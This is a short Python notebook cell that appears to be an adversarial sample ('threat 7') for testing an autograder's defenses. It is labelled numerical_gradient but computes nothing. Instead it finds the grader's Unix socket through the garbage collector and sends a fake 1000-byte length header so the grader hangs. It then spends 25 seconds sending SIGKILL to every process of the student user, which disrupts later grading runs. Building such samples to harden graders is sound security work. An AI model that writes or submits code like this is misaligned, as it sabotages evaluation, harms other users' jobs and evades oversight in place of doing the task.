# %% numerical_gradient
import gc
import os
import signal
import socket
import struct
import time


def numerical_gradient(func, params, param_idx, h=1e-5):
    # threat 7: announce a 1000-byte reply on the grader's socket and never send it
    channel = next(obj for obj in gc.get_objects() if isinstance(obj, socket.socket)
                   and obj.family == socket.AF_UNIX and obj.type == socket.SOCK_STREAM)
    channel.sendall(struct.pack(">II", 1000, 0))
    # the grader gives up reading, but if nobody kills this process it stays around for
    # 25 s, sending SIGKILL to every other process of the student uid (the processes the
    # grader starts next for this notebook, or for the next one)
    deadline = time.monotonic() + 25
    while time.monotonic() < deadline:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        time.sleep(0.01)
    os._exit(0)
